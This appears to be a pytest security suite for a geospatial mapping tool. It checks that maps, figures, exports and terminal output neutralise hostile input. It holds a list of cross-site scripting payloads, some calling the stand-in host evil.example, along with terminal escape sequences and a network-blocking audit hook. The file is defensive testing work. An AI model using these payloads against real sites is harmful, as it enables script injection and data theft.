"""Hostile input: script payloads in every text that reaches a page, a figure or an export.

Payloads go into property values, property names, layer and file names, titles, legend labels,
activity filters and observation species, through the command line as a user would give them.
The maps are opened in Debian's Chromium (``browser_support.py``): loading, hovering, clicking,
popups, tooltips, search, filters and layer toggles must open no dialog and send no request
(every payload that ran would call ``alert`` or fetch from ``evil.example``). Figures must
draw the payloads as literal text in well-formed SVG; exports must keep them exactly.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import geopandas as gpd
import pyogrio
import pytest
from browser_support import _TILE, Session, launch, new_session
from click.testing import CliRunner, Result
from shapely.geometry import LineString, Point, box

from amurgeo.cli import cli

EVIL = "evil.example"
PAYLOADS = [
    f'<img src="https://{EVIL}/img.png" onerror="alert(1)">',
    f'</script><script src="https://{EVIL}/x.js"></script><script>alert(2)</script>',
    "${alert(3)}{{alert(4)}}`+alert(5)+`",
    "<svg/onload=alert(6)>",
    '" onmouseover="alert(7)" data-x="',
    "' onfocus='alert(8)' autofocus x='",
    "javascript:alert(9)",
    f"<style>*{{background:url(https://{EVIL}/css)}}</style><!--",
    f'<iframe src="https://{EVIL}/frame"></iframe>',
    "\u202eRTL override\u202c מפלצת \\u003cscript\\u003ealert(10)",
]
#: File names cannot hold "/": these payloads name files (and so layers and legend entries).
FILE_PAYLOADS = ["<img src=x onerror=alert(11)>", '"><svg onload=alert(12)>']
TITLE = f"<script>alert(13)</script><img src=https://{EVIL}/t.png onerror=alert(14)>"


def invoke(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Area, line and point files whose names, property names and values are payloads."""
    folder = tmp_path_factory.mktemp("hostile")
    n = len(PAYLOADS)
    areas = gpd.GeoDataFrame(
        {
            "name": PAYLOADS,
            "designation": PAYLOADS[::-1],
            "iso3": ["<b>RUS</b>"] * n,
            "reported_area_km2": ["<i>1</i>"] * n,
            **dict.fromkeys(PAYLOADS[:4], PAYLOADS),
        },
        geometry=[box(131.0 + 0.08 * i, 43.0, 131.06 + 0.08 * i, 43.06) for i in range(n)],
        crs="EPSG:4326",
    )
    lines = gpd.GeoDataFrame(
        {"name": PAYLOADS[:2], PAYLOADS[5]: PAYLOADS[2:4]},
        geometry=[
            LineString([(131.0, 43.1), (131.5, 43.2)]),
            LineString([(131, 43.2), (131.4, 43.3)]),
        ],
        crs="EPSG:4326",
    )
    activities = gpd.GeoDataFrame(
        {
            "organization": PAYLOADS,
            "activity": PAYLOADS[::-1],
            "place": PAYLOADS,
            "description": PAYLOADS,
            "source": [f"https://{EVIL}/source"] * n,
        },
        geometry=[Point(131.0 + 0.08 * i, 42.9) for i in range(n)],
        crs="EPSG:4326",
    )
    paths = [
        folder / f"{FILE_PAYLOADS[0]}.geojson",
        folder / f"{FILE_PAYLOADS[1]}.gpkg",
        folder / "activities_of_'evil'.geojson",
    ]
    areas.to_file(paths[0], engine="pyogrio")
    lines.to_file(paths[1], layer="lines", engine="pyogrio")
    activities.to_file(paths[2], engine="pyogrio")
    return paths


@pytest.fixture(scope="module")
def hostile_observations(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("obs") / "detections.csv"
    rows = ["lon,lat,species"]
    for i, payload in enumerate(PAYLOADS * 3):
        quoted = '"' + payload.replace('"', '""') + '"'
        rows.append(f"{131.0 + 0.03 * i:.3f},{43.0 + 0.01 * i:.3f},{quoted}")
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def _map(tmp_path: Path, files: list[Path], *extra: str) -> Path:
    out = tmp_path / "hostile.html"
    result = invoke("map", *map(str, files), "hunchun", "-o", str(out), "--title", TITLE, *extra)
    if result.exit_code and "self-contained" in result.stderr:
        pytest.skip(result.stderr)
    assert result.exit_code == 0, result.stderr
    return out


def _scripts(page: str) -> list[str]:
    return re.findall(r"<script[^>]*>(.*?)</script>", page, flags=re.S | re.I)


@pytest.mark.filterwarnings("always")
@pytest.mark.parametrize("offline", [False, True], ids=["online", "self-contained"])
def test_map_page_holds_no_live_markup(
    tmp_path: Path, hostile_files: list[Path], offline: bool
) -> None:
    page = _map(tmp_path, hostile_files, *(["--self-contained"] if offline else [])).read_text(
        encoding="utf-8"
    )
    for raw in [*PAYLOADS[:2], *PAYLOADS[3:5], *PAYLOADS[7:9], *FILE_PAYLOADS, "<b>RUS</b>"]:
        assert raw not in page, raw
    for tag in ("<img", "<iframe", "<script>alert", "<svg/onload", "<svg onload"):
        assert tag not in page, tag
    assert page.count("<script") == page.count("</script>")
    for block in _scripts(page):
        assert "</script" not in block.lower() and "<!--" not in block
    title = re.search(r"<title>(.*?)</title>", page, flags=re.S)
    assert title and "&lt;script&gt;alert(13)&lt;/script&gt;" in title.group(1)


# --- in Chromium ----------------------------------------------------------------------------

HOVER_AND_CLICK = """() => {
  const points = [];
  amurgeo.overlays.forEach((o) => {
    const layers = o.amurgeoMarkers || o.getLayers();
    layers.forEach((l) => {
      const el = l._path || l._icon;
      if (!el || !el.isConnected) return;
      const b = el.getBoundingClientRect();
      if (b.width && b.height) points.push({x: b.left + b.width / 2, y: b.top + b.height / 2});
    });
  });
  return points.slice(0, 60);
}"""

OPEN_EVERYTHING = """() => amurgeo.overlays.forEach((o) => {
  const layers = o.amurgeoMarkers || o.getLayers();
  layers.forEach((l) => {
    const at = l.getLatLng ? l.getLatLng() : (l.getBounds ? l.getBounds().getCenter() : null);
    if (l.openTooltip && at) l.openTooltip(at);
    if (l.openPopup && at) l.openPopup(at);
  });
})"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    yield from launch()


@pytest.fixture
def session(browser: Any) -> Iterator[Session]:
    opened = new_session(browser)
    yield opened
    opened.page.close()


def _use_every_control(session: Session) -> None:
    """Hover and click features, open every popup and tooltip, search, filter, toggle."""
    page = session.page
    for point in page.evaluate(HOVER_AND_CLICK):
        page.mouse.move(point["x"], point["y"])
        page.mouse.click(point["x"], point["y"])
    page.evaluate(OPEN_EVERYTHING)
    page.wait_for_timeout(100)
    page.hover(".leaflet-control-layers")
    for checkbox in page.locator(".leaflet-control-layers-overlays input").all():
        checkbox.click()
        checkbox.click()
    search = page.locator("input.amg-search-input")
    if search.count():
        for text in ("<img", "alert", "evil", "RTL"):
            search.fill(text)
            search.press("Enter")
            page.wait_for_timeout(400)  # let the search zoom to its hit before going on
    for select in page.locator("select").all():
        for index in range(min(select.locator("option").count(), 6)):
            select.select_option(index=index)
    page.evaluate("() => amurgeo.map.setZoom(11)")
    page.wait_for_timeout(300)


def _check_nothing_ran(
    session: Session, page_url: str, *, offline: bool, literal: bool = True
) -> None:
    from amurgeo.maps.assets import CDN_PREFIX

    page = session.page
    assert session.dialogs == []
    assert session.errors == []

    def allowed(url: str) -> bool:
        if url == page_url or url.startswith("data:"):
            return True
        # online: the pinned CDN files (served from the bundle) and base map tiles, no more
        return not offline and (url.startswith(CDN_PREFIX) or bool(_TILE.search(url)))

    stray = [u for u in session.requests if not allowed(u)]
    assert stray == [], stray
    assert not any(EVIL in u for u in session.requests)
    if not offline:
        assert session.router.aborted == [] and session.router.missing == []
    live = page.evaluate(
        "() => document.querySelectorAll('iframe, [onerror], [onload], [onmouseover], "
        "[onfocus], style:not([data-amurgeo]) ~ style[data-x], svg[onload], "
        'img[src*="evil"]\').length'
    )
    assert live == 0
    assert page.title() == TITLE
    shown = page.evaluate("() => document.body.innerText")
    if literal:  # species are shown by their key (letters and digits), not literally
        assert any(p in shown for p in [*PAYLOADS, *FILE_PAYLOADS]), "payloads shown as text"


@pytest.mark.filterwarnings("always")
@pytest.mark.parametrize("offline", [False, True], ids=["online", "self-contained"])
def test_payloads_never_run_in_chromium(
    session: Session, tmp_path: Path, hostile_files: list[Path], offline: bool
) -> None:
    path = _map(tmp_path, hostile_files, *(["--self-contained"] if offline else []))
    url = path.resolve().as_uri()
    if offline:

        def only_the_file(route: Any) -> None:
            route.continue_() if route.request.url == url else route.abort()

        session.page.route("**/*", only_the_file)
    session.open(path, route=not offline)
    _use_every_control(session)
    _check_nothing_ran(session, url, offline=offline)
    texts = session.page.evaluate(
        "() => Array.from(document.querySelectorAll('.leaflet-popup-content, "
        ".leaflet-tooltip, .leaflet-control-layers, .amg-legend')).map((n) => n.textContent)"
        ".join(' ')"
    )
    assert FILE_PAYLOADS[0] in texts, "a file name is shown as text in the legend"


@pytest.mark.filterwarnings("always")
def test_observation_payloads_never_run_in_chromium(
    session: Session, tmp_path: Path, hostile_observations: Path
) -> None:
    out = tmp_path / "observations.html"
    result = invoke(
        "map", "hunchun", "--observations", str(hostile_observations), "-o", str(out),
        "--title", TITLE, "--self-contained",
    )  # fmt: skip
    if result.exit_code and "self-contained" in result.stderr:
        pytest.skip(result.stderr)
    assert result.exit_code == 0, result.stderr
    page = out.read_text(encoding="utf-8")
    assert PAYLOADS[0] not in page and "<svg/onload" not in page
    url = out.resolve().as_uri()
    session.page.route(
        "**/*", lambda route: route.continue_() if route.request.url == url else route.abort()
    )
    session.open(out, route=False)
    _use_every_control(session)
    _check_nothing_ran(session, url, offline=True, literal=False)


# --- figures --------------------------------------------------------------------------------

FIGURE_PAYLOADS = [
    "$\\alpha$ costs $5 and $x^2$ \\frac{1}{2} $$",
    "<script>alert(1)</script> & <!-- -- -->",
    "x" * 3000,
    "مرحبا بالعالم — שלום עולם",
    "nul\x00byte bell\x07 escape\x1b[31m red",
    "\u202eRTL override\u202c",
    "]]><![CDATA[ &amp; &lt;",
]


def _literal(text: str) -> str:
    """What matplotlib shows for plain text (amurgeo escapes $ as \\$)."""
    return text.replace("\\$", "$")


@pytest.fixture(scope="module")
def figure_svg(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Any]:
    folder = tmp_path_factory.mktemp("figure")
    n = len(FIGURE_PAYLOADS)
    areas = gpd.GeoDataFrame(
        {"name": FIGURE_PAYLOADS, FIGURE_PAYLOADS[0]: FIGURE_PAYLOADS},
        geometry=[box(131.0 + 0.1 * i, 43.0, 131.08 + 0.1 * i, 43.08) for i in range(n)],
        crs="EPSG:4326",
    )
    points = gpd.GeoDataFrame(
        {"organization": FIGURE_PAYLOADS, "activity": FIGURE_PAYLOADS, "place": FIGURE_PAYLOADS},
        geometry=[Point(131.0 + 0.1 * i, 42.9) for i in range(n)],
        crs="EPSG:4326",
    )
    area_file = folder / "$x$ <svg onload=alert(1)> مرحبا.geojson"
    point_file = folder / "$$ \\frac{1}{2}.geojson"
    areas.to_file(area_file, engine="pyogrio")
    points.to_file(point_file, engine="pyogrio")
    out = folder / "hostile.svg"
    args = ["figure", str(area_file), str(point_file), "hunchun", "-o", str(out)]
    result = invoke(*args, "--title", FIGURE_PAYLOADS[0], "--subtitle", FIGURE_PAYLOADS[1],
                    "--note", FIGURE_PAYLOADS[4])  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert "warning" not in result.stderr, result.stderr
    from amurgeo.figures import plot_figure

    fig = plot_figure([str(area_file), str(point_file)], title=FIGURE_PAYLOADS[1])
    return out, fig


def test_figure_svg_is_well_formed_and_runs_nothing(figure_svg: tuple[Path, Any]) -> None:
    out, _ = figure_svg
    parser = ET.XMLParser(target=ET.TreeBuilder(insert_comments=True))
    root = ET.parse(out, parser=parser).getroot()
    tags = {el.tag.rsplit("}", 1)[-1] for el in root.iter() if isinstance(el.tag, str)}
    assert not tags & {"script", "foreignObject", "iframe", "a"}
    assert not any(k.lower().startswith("on") for el in root.iter() for k in el.attrib)
    comments = [el.text or "" for el in root.iter() if el.tag is ET.Comment]
    # matplotlib keeps each text (drawn as glyph outlines) in a comment: there, literally
    assert any("$\\alpha$ costs $5" in c for c in comments), comments[:5]
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in c for c in comments)
    assert "\x00" not in out.read_text(encoding="utf-8")


def test_figure_shows_payloads_as_literal_text(figure_svg: tuple[Path, Any]) -> None:
    _, fig = figure_svg
    (ax,) = fig.axes
    assert _literal(ax.get_title(loc="left")) == FIGURE_PAYLOADS[1]
    legend = [_literal(t.get_text()) for t in ax.get_legend().get_texts()]
    assert any("$x$ <svg onload=alert(1)> مرحبا" in label for label in legend), legend
    texts = [t.get_text() for t in fig.findobj(lambda a: hasattr(a, "get_text"))]
    # every $ is escaped: matplotlib never parses user text as mathtext
    assert all(re.search(r"(?<!\\)\$", t) is None for t in texts if isinstance(t, str)), texts
    assert not any("\x00" in t or "\x1b" in t for t in texts if isinstance(t, str))


@pytest.mark.parametrize("suffix", [".png", ".pdf"])
def test_figure_payloads_in_png_and_pdf(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"payload{suffix}"
    title = FIGURE_PAYLOADS[0] + FIGURE_PAYLOADS[4]
    result = invoke(
        "figure", "hunchun", "-o", str(out), "--dpi", "50", "--title", title,
        "--note", FIGURE_PAYLOADS[2],
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert "warning" not in result.stderr
    assert out.stat().st_size > 1000


# --- exports --------------------------------------------------------------------------------

EXPORT_PAYLOADS = [*PAYLOADS, "Ünïcødé 豹 леопард", "nul-free \t tab"]


@pytest.fixture(scope="module")
def export_source(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, gpd.GeoDataFrame]:
    n = len(EXPORT_PAYLOADS)
    gdf = gpd.GeoDataFrame(
        {
            "name": EXPORT_PAYLOADS,
            **{f"{payload[:40]} {i}": EXPORT_PAYLOADS for i, payload in enumerate(PAYLOADS[:3])},
        },
        geometry=[box(131.0 + 0.05 * i, 43.0, 131.04 + 0.05 * i, 43.04) for i in range(n)],
        crs="EPSG:4326",
    )
    path = tmp_path_factory.mktemp("export") / f"{FILE_PAYLOADS[0]}.geojson"
    gdf.to_file(path, engine="pyogrio")
    return path, gdf


def test_geopackage_keeps_payloads_exactly(
    tmp_path: Path, export_source: tuple[Path, gpd.GeoDataFrame]
) -> None:
    path, original = export_source
    out = tmp_path / "hostile.gpkg"
    result = invoke("export", str(path), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    # GDAL refuses a GeoPackage table name that starts with "<": it gets a leading "_"
    table = f"_{FILE_PAYLOADS[0]}"
    assert str(pyogrio.list_layers(out)[0, 0]) == table
    back = gpd.read_file(out, layer=table, engine="pyogrio")
    for column in original.columns.drop("geometry"):
        assert back[column].tolist() == original[column].tolist(), column
    sources = pyogrio.read_dataframe(out, layer="Sources and licences", read_geometry=False)
    assert sources["layer"].tolist() == [table]
    assert sources["id"].tolist() == [FILE_PAYLOADS[0]]
    assert sources["source"].tolist() == [path.name], "the file name, not the whole path"


def test_geojson_folder_keeps_payloads_exactly(
    tmp_path: Path, export_source: tuple[Path, gpd.GeoDataFrame]
) -> None:
    path, original = export_source
    out = tmp_path / "hostile_export"
    result = invoke("export", str(path), "-o", str(out), "--format", "geojson")
    assert result.exit_code == 0, result.stderr
    files = sorted(p.name for p in out.iterdir())
    assert all(re.fullmatch(r"[\w.-]+", name) for name in files), files
    manifest = json.loads((out / "amurgeo-export.json").read_text(encoding="utf-8"))
    (layer,) = manifest["layers"]
    assert layer["name"] == FILE_PAYLOADS[0]
    data = json.loads((out / layer["file"]).read_text(encoding="utf-8"))
    assert data["name"] == FILE_PAYLOADS[0]
    for column in original.columns.drop("geometry"):
        assert [f["properties"][column] for f in data["features"]] == original[column].tolist()


def test_gap_geojson_keeps_a_payload_layer_name(tmp_path: Path) -> None:
    """Layer names reach the gap file's ``by`` attribute as plain JSON strings."""
    by = tmp_path / f"{FILE_PAYLOADS[1]}.geojson"
    gpd.GeoDataFrame(geometry=[box(130.5, 42.5, 131.2, 43.2)], crs=4326).to_file(by)
    out = tmp_path / "gap.geojson"
    result = invoke("gap", "hunchun", "--by", str(by), "-o", str(out), "--format", "json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)[0]["by"] == FILE_PAYLOADS[1]
    feature = json.loads(out.read_text(encoding="utf-8"))["features"][0]
    assert feature["properties"]["by"] == FILE_PAYLOADS[1]


def test_payloads_reach_tables_as_data_not_markup(
    export_source: tuple[Path, gpd.GeoDataFrame],
) -> None:
    path, original = export_source
    for fmt in ("json", "csv", "markdown", "table"):
        result = invoke("areas", str(path), "--format", fmt)
        assert result.exit_code == 0, result.stderr
    records = json.loads(invoke("areas", str(path), "--format", "json").stdout)
    names = [r["feature"] for r in records[:-1]]
    assert names == [" ".join(n.split()) for n in original["name"]]


def test_unknown_basemap_payload_is_a_usage_error(tmp_path: Path) -> None:
    result = invoke("map", "hunchun", "-o", str(tmp_path / "m.html"), "--basemap", PAYLOADS[0])
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and not (tmp_path / "m.html").exists()


# --- no network -----------------------------------------------------------------------------

#: Runs amurgeo's commands in a fresh interpreter that records (and refuses) every attempt to
#: resolve a name or open a connection, through Python's audit hooks.
NO_NETWORK_RUNNER = r"""
import json, sys
attempts = []
NETWORK = {
    "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
    "socket.sendto", "socket.sendmsg", "socket.getnameinfo", "urllib.Request",
    "http.client.connect", "ftplib.connect", "smtplib.connect",
}
def hook(event, args):
    # urllib3 (imported by folium) binds ::1 once to see if IPv6 works: loopback, allowed
    loopback = event == "socket.bind" and str(args[1][0]) in ("::1", "127.0.0.1", "localhost")
    if event in NETWORK or (event == "socket.bind" and not loopback):
        attempts.append([event, repr(args)[:200]])
        raise OSError(f"network blocked: {event}")
sys.addaudithook(hook)
from amurgeo.cli import main
codes = []
for argv in json.loads(sys.argv[1]):
    try:
        main(argv)
    except SystemExit as exc:
        codes.append(exc.code)
print(json.dumps({"codes": codes, "attempts": attempts}))
"""


@pytest.fixture(scope="module")
def offline_commands(tmp_path_factory: pytest.TempPathFactory) -> list[list[str]]:
    folder = tmp_path_factory.mktemp("offline")
    observations = folder / "cameras.csv"
    observations.write_text("lon,lat,species\n131.2,43.1,leopard\n131.4,43.2,tiger\n")
    return [
        ["layers"],
        ["areas", "--format", "json"],
        ["overlap", "--matrix"],
        ["coverage", "leopard-range", "--by", "LotL", "--by", "NCTLNP", "--per-country"],
        ["gap", "leopard-range", "--by", "LotL", "-o", str(folder / "gap.geojson")],
        ["map", "-o", str(folder / "online.html")],
        ["map", "-o", str(folder / "offline.html"), "--self-contained"],
        ["map", "--observations", str(observations), "-o", str(folder / "obs.html")],
        ["figure", "-o", str(folder / "figure.png"), "--dpi", "50"],
        ["export", "-o", str(folder / "amur.gpkg"), "--overwrite"],  # both tests write it
        ["observations", str(observations)],
    ]


def _run_offline(commands: list[list[str]], prefix: list[str]) -> dict[str, Any]:
    import subprocess
    import sys

    completed = subprocess.run(
        [*prefix, sys.executable, "-c", NO_NETWORK_RUNNER, json.dumps(commands)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert completed.returncode == 0, completed.stderr[-2000:]
    result: dict[str, Any] = json.loads(completed.stdout.strip().splitlines()[-1])
    return result


def test_amurgeo_makes_no_network_call(offline_commands: list[list[str]]) -> None:
    """Every command, the online map included (it links the CDN, it fetches nothing)."""
    result = _run_offline(offline_commands, [])
    assert result["attempts"] == []
    assert result["codes"] == [0] * len(offline_commands)


def test_amurgeo_works_with_no_network_at_all(offline_commands: list[list[str]]) -> None:
    """The same commands in a network namespace with no interface: GDAL and PROJ too."""
    import shutil
    import subprocess

    unshare = shutil.which("unshare")
    if unshare is None or subprocess.run([unshare, "-rn", "true"], check=False).returncode:
        pytest.skip("unshare -rn (a user namespace without network) is not available here")
    fast = [c for c in offline_commands if c[0] in ("areas", "map", "export", "observations")]
    result = _run_offline(fast, [unshare, "-rn"])
    assert result["codes"] == [0] * len(fast)


def test_the_package_imports_no_network_module() -> None:
    import ast

    import amurgeo

    banned = {"socket", "urllib", "http", "requests", "httpx", "aiohttp", "ftplib", "smtplib"}
    found = []
    for path in Path(amurgeo.__file__).parent.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            found += [f"{path.name}: {n}" for n in names if n.split(".")[0] in banned]
    assert found == []


# --- the terminal -------------------------------------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x9b"


@pytest.mark.filterwarnings("always")
def test_terminal_escapes_in_names_never_reach_the_terminal(tmp_path: Path) -> None:
    """Errors and warnings show control characters from a file as text (\\x1b ...)."""
    from shapely.geometry import Polygon

    bow = Polygon([(131, 43), (131.2, 43.1), (131.2, 43), (131, 43.1)])
    path = tmp_path / "escapes.geojson"
    gpd.GeoDataFrame({"name": [ESCAPES]}, geometry=[bow], crs=4326).to_file(path)
    warned = invoke("areas", str(path), "--format", "json")
    assert warned.exit_code == 0, warned.stderr
    assert "\\x1b]0;pwned\\x07" in warned.stderr and "\x1b" not in warned.stderr
    points = tmp_path / "escape\x1b[2Jpoints.geojson"
    gpd.GeoDataFrame({"name": [ESCAPES]}, geometry=[Point(131, 43)], crs=4326).to_file(points)
    failed = invoke("areas", str(points))
    assert failed.exit_code == 1 and "escape\\x1b[2Jpoints.geojson" in failed.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", failed.stderr)
